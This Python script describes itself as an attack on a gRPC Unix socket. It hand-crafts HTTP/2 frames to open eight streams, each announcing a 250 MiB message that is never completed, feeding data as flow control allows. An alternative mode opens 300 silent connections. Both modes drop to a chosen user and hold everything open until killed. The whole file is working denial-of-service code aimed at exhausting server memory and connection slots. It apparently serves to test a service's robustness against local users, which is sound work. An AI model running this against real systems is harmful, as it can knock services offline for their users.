"""Attack a gRPC socket as a user: unfinished messages, idle connections.

    unfinished.py USER SOCKET CALL    eight messages of 250 MiB that never end
    unfinished.py USER SOCKET         300 connections that say nothing

Prints what became of it, and keeps what is open until it is killed.
"""

import os
import pwd
import signal
import socket
import struct
import sys

STREAMS, MESSAGE = 8, 250 << 20
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW = 0, 1, 3, 4, 6, 7, 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def header(name, value):
    """A literal that is not indexed, with a new name (RFC 7541 section 6.2.2)."""
    return bytes([0, len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


class Client:
    def __init__(self, path, call):
        self.socket = socket.socket(socket.AF_UNIX)
        self.socket.connect(path)
        self.socket.settimeout(2)
        self.connection, self.initial = 65535, 65535
        self.open = {1 + 2 * i: [0, MESSAGE] for i in range(STREAMS)}  # window, bytes left
        self.sent, self.received = 0, b""
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
        block = b"".join(header(*pair) for pair in [
            (":method", "POST"), (":scheme", "http"), (":path", call), (":authority", "x"),
            ("content-type", "application/grpc"), ("te", "trailers")])
        for stream in self.open:
            self.send(frame(HEADERS, 4, stream, block))
            self.data(stream, b"\0" + struct.pack(">I", MESSAGE))

    def send(self, octets):
        self.socket.sendall(octets)

    def data(self, stream, octets):
        self.send(frame(DATA, 0, stream, octets))
        self.connection -= len(octets)
        self.open[stream][0] -= len(octets)
        self.sent += len(octets)

    def run(self):
        """Sends what the windows allow, until nothing moves any more."""
        try:
            while self.open:
                for stream, (window, left) in list(self.open.items()):
                    part = min(window + self.initial, self.connection, left - 1, 16384)
                    if part > 0:
                        self.data(stream, bytes(part))
                        self.open[stream][1] -= part
                self.read(0 if self.may_send() else 2)
        except OSError:
            pass
        return f"{STREAMS - len(self.open)} of {STREAMS} refused, {self.sent >> 20} MiB taken"

    def may_send(self):
        return self.connection > 0 and any(w + self.initial > 0 and left > 1 for w, left in self.open.values())

    def read(self, timeout):
        self.socket.settimeout(timeout)
        try:
            got = self.socket.recv(1 << 16)
            if not got:
                raise ConnectionError
            self.received += got
        except BlockingIOError:
            pass
        self.socket.settimeout(5)
        while len(self.received) >= 9:
            length = int.from_bytes(self.received[:3], "big")
            if len(self.received) < 9 + length:
                return
            kind, flags, stream = struct.unpack(">BBI", self.received[3:9])
            payload, self.received = self.received[9:9 + length], self.received[9 + length:]
            self.take(kind, flags, stream, payload)

    def take(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & 1:
            for at in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[at:at + 6])
                self.initial = value if name == 4 else self.initial
            self.send(frame(SETTINGS, 1, 0))
        elif kind == PING and not flags & 1:
            self.send(frame(PING, 1, 0, payload))
        elif kind == WINDOW:
            more = int.from_bytes(payload, "big")
            if stream == 0:
                self.connection += more
            elif stream in self.open:
                self.open[stream][0] += more
        elif kind == RST or (kind == HEADERS and flags & 1):
            self.open.pop(stream, None)
        elif kind == GOAWAY:
            raise ConnectionError


def main(user, path, call=None):
    entry = pwd.getpwnam(user)
    os.initgroups(entry.pw_name, entry.pw_gid)
    os.setgid(entry.pw_gid)
    os.setuid(entry.pw_uid)
    if call:
        client = Client(path, call)
        print(client.run(), flush=True)
    else:
        idle = []
        for _ in range(300):
            idle.append(socket.socket(socket.AF_UNIX))
            idle[-1].settimeout(5)
            idle[-1].connect(path)
        print("connected", flush=True)
    signal.pause()


main(*sys.argv[1:])
